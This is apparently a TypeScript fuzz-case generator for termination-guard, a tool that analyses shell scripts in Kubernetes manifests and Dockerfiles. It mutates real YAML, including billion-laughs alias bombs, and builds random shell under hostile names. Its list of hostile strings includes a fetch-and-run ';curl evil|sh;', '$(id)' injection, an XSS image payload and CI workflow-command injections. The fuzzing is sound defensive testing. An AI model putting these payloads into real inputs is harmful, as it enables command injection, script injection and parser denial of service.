// What the fuzz target feeds termination-guard (issue 15 §7): real YAML from the fixtures and
// the corpus, mutated the way a hostile or broken pull request mutates it; random shell in every
// place a script hides (command, args, preStop, Dockerfile RUN/CMD/ENTRYPOINT, a copied entrypoint
// script, a mounted ConfigMap script); hostile object, container and file names.
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';

// As in test/helpers.ts, which imports Vitest: this module also runs in `npm run fuzz`.
const repoRoot = fileURLToPath(new URL('../..', import.meta.url));
const fixturesDir = join(repoRoot, 'test', 'fixtures');
const corpusDir = join(repoRoot, '..', 'shared', 'corpus');

/** One input file. `bytes`, when set, is what the CLI finds on disk (byte flips, UTF-16). */
export interface FuzzFile {
  path: string;
  content: string;
  bytes?: Uint8Array;
}

export interface FuzzCase {
  /** What kind of input this is, for reports ("mutated corpus …", "shell in preStop"). */
  label: string;
  files: FuzzFile[];
}

export interface SeedFile {
  /** Where it came from, relative to the repository or the corpus. */
  source: string;
  content: string;
  kind: 'yaml' | 'dockerfile';
}

function walk(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => (entry.isDirectory() ? walk(join(dir, entry.name)) : [join(dir, entry.name)]));
}

/**
 * YAML and Dockerfiles to mutate: test/fixtures always, ../shared/corpus when it is there (it
 * lives beside the repository, not in it). Files over `maxBytes` are left out to keep a case fast.
 */
export function loadSeeds(maxBytes: number): SeedFile[] {
  const seeds: SeedFile[] = [];
  const add = (root: string, label: string) => {
    for (const path of walk(root).sort()) {
      const kind = /\.ya?ml$/.test(path) ? 'yaml' : /(^|\/)Dockerfile[^/]*$/.test(path) ? 'dockerfile' : undefined;
      if (!kind || statSync(path).size > maxBytes) continue;
      seeds.push({ source: `${label}/${relative(root, path)}`, content: readFileSync(path, 'utf8'), kind });
    }
  };
  add(fixturesDir, 'test/fixtures');
  if (existsSync(corpusDir)) add(corpusDir, '../shared/corpus');
  return seeds;
}

// ---------------------------------------------------------------------------------------------
// Hostile strings

/** Pieces that have broken (or could break) a parser, a renderer or a log line. */
const hostilePieces = [
  '\n',
  '\r',
  '\r\n',
  '\t',
  '`',
  '```',
  '](',
  ')',
  '[x](https://evil.example)',
  '|',
  '<img src=x onerror=alert(1)>',
  '<!--',
  '@team',
  '#123',
  '::error file=x::pwned',
  '::stop-commands::t',
  '%0A',
  '\u202e',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u0085',
  '\u2028',
  '\ufeff',
  '\ufffd',
  '\ud800',
  '"',
  "'",
  '\\',
  '$(id)',
  '${IFS}',
  ';curl evil|sh;',
  '{{ .Values.x }}',
  '*',
  '&a',
  '*a',
  '!!binary',
  ': ',
  '- ',
  '# ',
  '%YAML',
  '---',
  '...',
  'é',
  '😀',
  'ǅ',
  ' ',
];

export const hostileString = (maxPieces = 6): fc.Arbitrary<string> =>
  fc.array(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...hostilePieces) }, { weight: 1, arbitrary: fc.string({ maxLength: 6, unit: 'binary' }) }), { minLength: 1, maxLength: maxPieces }).map((pieces) => pieces.join(''));

/** A name: usually a valid-looking one, often hostile. */
export const objectName = (): fc.Arbitrary<string> => fc.oneof({ weight: 1, arbitrary: fc.stringMatching(/^[a-z][a-z0-9-]{0,20}$/) }, { weight: 2, arbitrary: hostileString() });

/** A path segment for a file the CLI must be able to create (no NUL or slash, not . or ..). */
export function onDiskSegment(name: string): string {
  let segment = name.replace(/[\u0000/]/g, '_');
  if (segment === '' || segment === '.' || segment === '..') segment = `_${segment}`;
  // 255 bytes is the usual file name limit.
  while (new TextEncoder().encode(segment).length > 200) segment = segment.slice(0, -1);
  return segment;
}

/** YAML double-quoted scalar (JSON strings are YAML flow scalars). */
export const yamlString = (value: string) => JSON.stringify(value);

// ---------------------------------------------------------------------------------------------
// Mutations of YAML (and Dockerfile) text

export type Mutation =
  | { op: 'flip-byte'; at: number; bit: number }
  | { op: 'delete-line'; at: number }
  | { op: 'duplicate-line'; at: number; times: number }
  | { op: 'indent'; at: number; by: number; tab: boolean }
  | { op: 'anchor-alias'; at: number; to: number }
  | { op: 'alias-bomb'; at: number; width: number; depth: number }
  | { op: 'huge-scalar'; at: number; length: number }
  | { op: 'insert'; at: number; text: string }
  | { op: 'truncate'; at: number }
  | { op: 'bom'; utf16: boolean };

export const mutation = (maxScalar: number): fc.Arbitrary<Mutation> =>
  fc.oneof(
    fc.record({ op: fc.constant('flip-byte' as const), at: fc.nat(), bit: fc.integer({ min: 0, max: 7 }) }),
    fc.record({ op: fc.constant('delete-line' as const), at: fc.nat() }),
    fc.record({ op: fc.constant('duplicate-line' as const), at: fc.nat(), times: fc.integer({ min: 1, max: 50 }) }),
    fc.record({ op: fc.constant('indent' as const), at: fc.nat(), by: fc.integer({ min: -4, max: 4 }), tab: fc.boolean() }),
    fc.record({ op: fc.constant('anchor-alias' as const), at: fc.nat(), to: fc.nat() }),
    fc.record({ op: fc.constant('alias-bomb' as const), at: fc.nat(), width: fc.integer({ min: 2, max: 12 }), depth: fc.integer({ min: 1, max: 9 }) }),
    fc.record({ op: fc.constant('huge-scalar' as const), at: fc.nat(), length: fc.integer({ min: 1000, max: maxScalar }) }),
    fc.record({
      op: fc.constant('insert' as const),
      at: fc.nat(),
      text: fc.oneof(hostileString(3), fc.constantFrom('\u0000', '\u0001', '\u001f', '\u007f', '\u0085', '\u2028', '\ufffd', '\ufeff', '\t', '\r', ': x', '- ', '{', '[', '"', "'", '|', '>-', '? ', '<<: *a')),
    }),
    fc.record({ op: fc.constant('truncate' as const), at: fc.nat() }),
    fc.record({ op: fc.constant('bom' as const), utf16: fc.boolean() }),
  );

const maxMutatedLength = 32 * 1024 * 1024;

const encoder = new TextEncoder();
const decoder = new TextDecoder('utf-8');

/** Applies mutations: the text the pure pipeline reads, and the bytes the CLI finds on disk. */
export function mutate(text: string, mutations: readonly Mutation[]): { content: string; bytes?: Uint8Array } {
  let content = text;
  let bytes: Uint8Array | undefined;
  let utf16 = false;
  for (const m of mutations) {
    // Past twice the largest file any reader accepts (16 MiB), more size tests nothing new.
    if (content.length > maxMutatedLength) break;
    const lines = content.split('\n');
    const line = lines.length > 0 ? m.op !== 'bom' && 'at' in m ? m.at % lines.length : 0 : 0;
    switch (m.op) {
      case 'flip-byte': {
        const raw = bytes ?? encoder.encode(content);
        if (raw.length === 0) break;
        const flipped = new Uint8Array(raw);
        flipped[m.at % flipped.length] ^= 1 << m.bit;
        bytes = flipped;
        // The reader decodes what it can (the pure pipeline gets decoded text): U+FFFD otherwise.
        content = decoder.decode(flipped);
        continue;
      }
      case 'delete-line':
        lines.splice(line, 1);
        break;
      case 'duplicate-line':
        lines.splice(line, 0, ...Array.from({ length: m.times }, () => lines[line] ?? ''));
        break;
      case 'indent': {
        const current = lines[line] ?? '';
        lines[line] = m.by >= 0 ? `${(m.tab ? '\t' : ' ').repeat(m.by)}${current}` : current.replace(new RegExp(`^ {0,${-m.by}}`), '');
        break;
      }
      case 'anchor-alias': {
        const target = m.to % lines.length;
        lines[line] = (lines[line] ?? '').replace(/:\s*$/, ': &fuzz').replace(/: (?!&)/, ': &fuzz ');
        lines[target] = (lines[target] ?? '').replace(/: .*$/, ': *fuzz');
        break;
      }
      case 'alias-bomb': {
        // The "billion laughs": each level lists the previous one `width` times.
        const bomb = [`l0: &l0 ["lol"]`];
        for (let level = 1; level <= m.depth; level++) bomb.push(`l${level}: &l${level} [${Array.from({ length: m.width }, () => `*l${level - 1}`).join(', ')}]`);
        lines.splice(line, 0, ...bomb);
        break;
      }
      case 'huge-scalar':
        lines[line] = `${(lines[line] ?? '').replace(/: .*$/, ':')} ${'x'.repeat(m.length)}`;
        break;
      case 'insert': {
        const current = lines[line] ?? '';
        const column = m.at % (current.length + 1);
        lines[line] = current.slice(0, column) + m.text + current.slice(column);
        break;
      }
      case 'truncate':
        content = content.slice(0, m.at % (content.length + 1));
        bytes = undefined;
        continue;
      case 'bom':
        content = content.startsWith('\ufeff') ? content : `\ufeff${content}`;
        utf16 = m.utf16;
        bytes = undefined;
        continue;
    }
    content = lines.join('\n');
    bytes = undefined;
  }
  if (utf16 && !bytes) {
    // UTF-16LE with its BOM: the confined reader decodes it; the pure pipeline sees the text.
    const out = new Uint8Array(content.length * 2);
    for (let i = 0; i < content.length; i++) {
      out[2 * i] = content.charCodeAt(i) & 0xff;
      out[2 * i + 1] = content.charCodeAt(i) >> 8;
    }
    bytes = out;
  }
  return bytes ? { content, bytes } : { content };
}

// ---------------------------------------------------------------------------------------------
// Shell

const shellWords = [
  'node',
  'server.js',
  'gunicorn',
  'app:app',
  './start.sh',
  '/docker-entrypoint.sh',
  'nginx',
  '-s',
  'quit',
  'sleep',
  '5',
  '1m',
  '3600',
  'kill',
  '-TERM',
  '-QUIT',
  '-9',
  '1',
  '$PID',
  '$!',
  'wait',
  'echo',
  'true',
  'false',
  ':',
  'cat',
  'tee',
  '/tmp/x',
  '"$@"',
  '"$*"',
  '$1',
  '"${VAR:-default}"',
  '${VAR/a/b}',
  '${#VAR}',
  '${!ref}',
  '$((1 + 2 * 3))',
  '$[1+1]',
  "'single quoted'",
  '"double $HOME"',
  '$\'\\n\\t\'',
  '*.log',
  '{a,b}',
  '~',
  '\\$',
  '--',
  '-c',
  '@(a|b)',
];

const word = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...shellWords) },
    { weight: 1, arbitrary: fc.string({ maxLength: 6, unit: fc.constantFrom(...'abcXYZ019_-./=$"\'\\`(){}[]|&;<>*?!#~ \t\n'.split('')) }) },
    { weight: 1, arbitrary: hostileString(2) },
  );

const simpleCommand = (): fc.Arbitrary<string> =>
  fc.tuple(fc.array(fc.constantFrom('A=1', 'PATH=/x', 'X="$(y)"'), { maxLength: 1 }), fc.array(word(), { minLength: 1, maxLength: 5 })).map(([assigns, words]) => [...assigns, ...words].join(' '));

/** Random shell from a small grammar: every construct the analysis reads or walks through. */
export const shellScript = (maxDepth = 4): fc.Arbitrary<string> => {
  const { script } = fc.letrec((tie) => {
    const command = () => tie('command') as fc.Arbitrary<string>;
    const nested = () => tie('script') as fc.Arbitrary<string>;
    return {
      command: fc.oneof(
        { depthSize: 'small', maxDepth, withCrossShrink: true },
        { weight: 4, arbitrary: simpleCommand() },
        fc.tuple(command(), fc.constantFrom(' | ', ' && ', ' || ', ' |& '), command()).map(([a, op, b]) => `${a}${op}${b}`),
        nested().map((s) => `( ${s} )`),
        nested().map((s) => `{ ${s}; }`),
        nested().map((s) => `echo "$(${s})"`),
        nested().map((s) => `x=\`${s.replace(/`/g, '\\`')}\``),
        fc.tuple(command(), nested(), nested()).map(([c, t, e]) => `if ${c}; then ${t}; else ${e}; fi`),
        fc.tuple(command(), nested()).map(([c, b]) => `while ${c}; do ${b}; done`),
        fc.tuple(fc.array(word(), { maxLength: 3 }), nested()).map(([items, b]) => `for i in ${items.join(' ')}; do ${b}; done`),
        fc.tuple(word(), nested()).map(([w, b]) => `case ${w} in a|b) ${b} ;; *) exit 1 ;; esac`),
        nested().map((s) => `f() { ${s}; }; f "$@"`),
        fc.tuple(command(), fc.constantFrom('> /dev/null', '2>&1', '< /etc/x', '>> log', '<<< "$x"', '&>/dev/null', '3>&-')).map(([c, r]) => `${c} ${r}`),
        fc.tuple(command(), fc.string({ maxLength: 30 })).map(([c, body]) => `${c} <<'EOF'\n${body.replace(/^EOF$/gm, 'EOF_')}\nEOF\n`),
        fc.tuple(command(), fc.string({ maxLength: 30 })).map(([c, body]) => `${c} <<-EOF\n\t${body.replace(/^\s*EOF$/gm, 'x')} $(date)\n\tEOF\n`),
        command().map((c) => `${c} &`),
        command().map((c) => `! ${c}`),
        fc.tuple(fc.constantFrom("'exit 0'", '"kill -TERM $PID"', "''", '-', 'cleanup'), fc.constantFrom('TERM', 'SIGTERM', '15', 'INT TERM', 'EXIT')).map(([action, signals]) => `trap ${action} ${signals}`),
        simpleCommand().map((c) => `exec ${c}`),
        fc.constantFrom('exec "$@"', 'wait $PID', 'wait', 'sleep infinity & wait $!', 'kill -QUIT 1', 'exec nginx -g "daemon off;"', '[[ -f x && $y == z* ]]', '(( i++ ))', 'let x=1+2', 'declare -A m=([k]=v)', 'arr=(a b "c d")', 'coproc w { cat; }', 'time sleep 1', 'diff <(a) >(b)'),
      ),
      script: fc.array(command(), { minLength: 1, maxLength: 4 }).chain((commands) => fc.constantFrom('; ', '\n', ' && ').map((separator) => commands.join(separator))),
    };
  });
  return script as fc.Arbitrary<string>;
};

/** The shapes that broke the shell analysis: long lists and deep nesting, at random sizes. */
export const deepScript = (maxSize: number): fc.Arbitrary<string> =>
  fc.tuple(fc.constantFrom('pipe', 'and', 'or', 'semicolon', 'paren', 'brace', 'cmdsub', 'backtick', 'if', 'while', 'arith', 'param', 'quote', 'heredocs', 'negate', 'time'), fc.integer({ min: 10, max: maxSize })).map(([shape, n]) => {
    switch (shape) {
      case 'pipe':
        return Array.from({ length: n }, () => 'cat').join(' | ');
      case 'and':
        return `${Array.from({ length: n }, () => './step').join(' && ')} && exec app`;
      case 'or':
        return Array.from({ length: n }, () => 'false').join(' || ');
      case 'semicolon':
        return 'a;'.repeat(n);
      case 'paren':
        return `${'('.repeat(n)}exec app${')'.repeat(n)}`;
      case 'brace':
        return `${'{ '.repeat(n)}exec app;${' };'.repeat(n)}`;
      case 'cmdsub':
        return `echo ${'$('.repeat(n)}date${')'.repeat(n)}`;
      case 'backtick':
        return `echo ${'`echo \\'.repeat(Math.min(n, 30))}`;
      case 'if':
        return `${'if a; then '.repeat(n)}exec app${'; fi'.repeat(n)}`;
      case 'while':
        return `${'while a; do '.repeat(n)}sleep 1${'; done'.repeat(n)}`;
      case 'arith':
        return `echo $(( ${Array.from({ length: n }, () => 'a').join(' = ')} ))`;
      case 'param':
        return `echo ${'${x:-'.repeat(n)}y${'}'.repeat(n)}`;
      case 'quote':
        return `echo ${'"$('.repeat(n)}x${')"'.repeat(n)}`;
      case 'heredocs':
        return 'cat <<EOF\nline $(date)\nEOF\n'.repeat(n);
      case 'negate':
        return `${'! '.repeat(n)}true`;
      default:
        return `${'time '.repeat(n)}sleep 1`;
    }
  });

/** A script: grammar, deep shapes, or broken grammar (truncated, with stray characters). */
export const anyScript = (maxDeep: number): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 6, arbitrary: shellScript() },
    { weight: 2, arbitrary: deepScript(maxDeep) },
    { weight: 2, arbitrary: fc.tuple(shellScript(), fc.nat(), hostileString(2)).map(([s, at, junk]) => s.slice(0, at % (s.length + 1)) + junk) },
  );

// ---------------------------------------------------------------------------------------------
// Whole cases

/** A Deployment with one container; `containerFields` are its extra YAML lines (10 spaces in). */
export function deployment(name: string, namespace: string, container: string, image: string, containerFields: string[]): string {
  return [
    'apiVersion: apps/v1',
    'kind: Deployment',
    'metadata:',
    `  name: ${yamlString(name)}`,
    `  namespace: ${yamlString(namespace)}`,
    'spec:',
    '  replicas: 3',
    '  selector:',
    '    matchLabels: { app: fuzzed }',
    '  template:',
    '    metadata:',
    '      labels: { app: fuzzed }',
    '    spec:',
    '      containers:',
    `        - name: ${yamlString(container)}`,
    `          image: ${yamlString(image)}`,
    '          ports: [{ containerPort: 8080 }]',
    ...containerFields,
    '',
  ].join('\n');
}

/** Dockerfile lines of a shell-form instruction: continuation lines, or a heredoc for RUN. */
function shellInstruction(keyword: string, script: string): string {
  if (keyword === 'RUN' && script.includes('\n')) return `RUN <<EOS\n${script.replace(/^EOS$/gm, 'EOS_')}\nEOS`;
  return `${keyword} ${script.replace(/\n/g, ' \\\n  ')}`;
}

const placements = ['command', 'args', 'preStop', 'dockerfile-cmd', 'dockerfile-entrypoint', 'dockerfile-run', 'entrypoint-script', 'configmap-script'] as const;

/** A script in one of the places termination-guard reads scripts from, under hostile names. */
export const shellCase = (maxDeep: number): fc.Arbitrary<FuzzCase> =>
  fc
    .record({
      script: anyScript(maxDeep),
      placement: fc.constantFrom(...placements),
      name: objectName(),
      namespace: objectName(),
      container: objectName(),
      directory: objectName(),
      shell: fc.constantFrom('sh', '/bin/sh', 'bash', '/bin/ash', 'dash', 'zsh'),
      base: fc.constantFrom('debian:12-slim', 'alpine:3.20', 'python:3.12', 'scratch', 'gcr.io/distroless/base', '${BASE}', 'busybox'),
    })
    .map(({ script, placement, name, namespace, container, directory, shell, base }): FuzzCase => {
      const dir = `fuzzed/${directory}`;
      const image = `registry.example/${directory}:1`;
      const manifest = (fields: string[]) => ({ path: `${dir}/deploy.yaml`, content: deployment(name, namespace, container, image, fields) });
      const files: FuzzFile[] = [];
      switch (placement) {
        case 'command':
          files.push(manifest([`          command: [${yamlString(shell)}, "-c", ${yamlString(script)}]`]));
          break;
        case 'args':
          files.push(manifest([`          command: [${yamlString(shell)}, "-ec"]`, `          args: [${yamlString(script)}]`]));
          break;
        case 'preStop':
          files.push(manifest(['          lifecycle:', '            preStop:', '              exec:', `                command: [${yamlString(shell)}, "-c", ${yamlString(script)}]`]));
          break;
        case 'dockerfile-cmd':
        case 'dockerfile-entrypoint':
        case 'dockerfile-run': {
          const keyword = placement === 'dockerfile-cmd' ? 'CMD' : placement === 'dockerfile-entrypoint' ? 'ENTRYPOINT' : 'RUN';
          files.push(manifest([]), { path: `${dir}/Dockerfile`, content: `FROM ${base}\n${shellInstruction(keyword, script)}\n${keyword === 'RUN' ? 'CMD ["app"]\n' : ''}` });
          break;
        }
        case 'entrypoint-script':
          files.push(
            manifest(['          args: ["serve", "--port", "8080"]']),
            { path: `${dir}/Dockerfile`, content: `FROM ${base}\nCOPY start.sh /usr/local/bin/start.sh\nENTRYPOINT ["start.sh"]\n` },
            { path: `${dir}/start.sh`, content: `#!/bin/${shell.replace(/^.*\//, '')}\n${script}\n` },
          );
          break;
        case 'configmap-script':
          files.push(
            manifest([`          command: [${yamlString(shell)}, "/scripts/run.sh"]`, '          volumeMounts: [{ name: scripts, mountPath: /scripts }]']),
            {
              path: `${dir}/configmap.yaml`,
              content: ['apiVersion: v1', 'kind: ConfigMap', 'metadata:', '  name: scripts', `  namespace: ${yamlString(namespace)}`, 'data:', `  run.sh: ${yamlString(script)}`, ''].join('\n'),
            },
          );
          files[0].content = files[0].content.replace('    spec:\n', '    spec:\n      volumes: [{ name: scripts, configMap: { name: scripts } }]\n');
          break;
      }
      return { label: `shell in ${placement}`, files };
    });

/** A fixture or corpus file, mutated, at a hostile path. */
export const mutatedCase = (seeds: readonly SeedFile[], maxScalar: number): fc.Arbitrary<FuzzCase> =>
  fc
    .record({
      seed: fc.constantFrom(...seeds),
      mutations: fc.array(mutation(maxScalar), { minLength: 1, maxLength: 6 }),
      directory: objectName(),
      file: fc.oneof(fc.constant(''), objectName()),
    })
    .map(({ seed, mutations, directory, file }): FuzzCase => {
      const mutated = mutate(seed.content, mutations);
      const name = seed.kind === 'dockerfile' ? 'Dockerfile' : `${file}${file ? '-' : ''}${seed.source.replace(/^.*\//, '')}`;
      return { label: `mutated ${seed.source} (${mutations.map((m) => m.op).join(', ')})`, files: [{ path: `fuzzed/${directory}/${name}`, ...mutated }] };
    });

/** Every kind of case. */
export const fuzzCase = (seeds: readonly SeedFile[], sizes: { maxDeep: number; maxScalar: number }): fc.Arbitrary<FuzzCase> =>
  seeds.length > 0 ? fc.oneof(mutatedCase(seeds, sizes.maxScalar), shellCase(sizes.maxDeep)) : shellCase(sizes.maxDeep);
